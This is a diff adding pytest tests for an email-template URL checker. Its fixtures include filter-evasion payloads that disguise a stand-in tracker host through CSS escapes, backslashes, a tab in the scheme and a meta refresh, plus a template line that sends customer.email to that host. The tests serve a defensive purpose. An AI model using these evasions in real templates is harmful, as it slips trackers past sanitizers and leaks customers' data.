@@ -88,3 +88,33 @@ def test_rendered_html_is_checked_for_remote_hosts():
     assert (
         remote_url_problems('<img src="https://shop.example.com/l.png">', allowed_hosts=SHOP) == []
     )
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # Each reached a tracker through the checks once: browsers read addresses loosely.
+        '<div style="background:\\75 rl(https://tracker.example/c)">x</div>',  # CSS escape
+        '<img src="https:\\\\tracker.example/p.gif">',  # backslashes as slashes
+        '<img src="ht&#9;tps://tracker.example/p.gif">',  # a tab inside the scheme
+        '<img src="https:tracker.example/p.gif">',  # no slashes after the scheme
+        '<meta http-equiv="refresh" content="0;url=https://tracker.example/">',
+        "<style>a { background: u\\72 l(https://tracker.example/) }</style>",
+    ],
+)
+def test_addresses_are_read_the_way_browsers_read_them(source):
+    [problem] = template_url_problems(source, allowed_hosts=SHOP)
+    assert "“tracker.example”, which is not an allowed host" in problem
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        '{{ "<img src=https:tracker.example/i?e="|add:customer.email|add:">"|safe }}',
+        "{% autoescape off %}{{ customer.note }}{% endautoescape %}",
+    ],
+)
+def test_emails_may_not_write_template_data_as_markup(source):
+    [problem] = template_url_problems(source, allowed_hosts=SHOP)
+    assert "not allowed in emails" in problem
+    assert template_url_problems(source, allowed_hosts=None) == []  # documents fetch nothing
